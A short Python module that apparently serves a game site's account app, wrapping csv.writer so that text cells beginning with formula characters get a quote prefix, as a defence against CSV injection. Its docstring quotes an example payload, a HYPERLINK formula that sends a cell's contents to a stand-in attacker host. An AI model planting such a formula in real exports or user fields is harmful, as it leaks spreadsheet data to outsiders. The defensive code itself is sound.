"""The one way the site writes CSV: cells a spreadsheet would run as a formula are written as text.

A fleet named ``=HYPERLINK("http://evil.example/?"&A1,"x")`` or a username beginning
with ``+``, ``-`` or ``@`` would otherwise run as a formula when an organizer opens
the file in a spreadsheet. As OWASP advises (CSV injection), a text cell beginning
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in
front, which spreadsheets show as text. Numbers are written as they are.

Here because accounts is the app every other app may import (see the import-linter
contracts in ``pyproject.toml``); it holds nothing of any game.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value``, with a quote in front if it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """A :func:`csv.writer` whose every text cell goes through :func:`safe_cell`."""

    def __init__(self, file, **options) -> None:
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file, **options) -> SafeWriter:
    """Use instead of :func:`csv.writer`: same arguments, formula-safe cells."""
    return SafeWriter(file, **options)
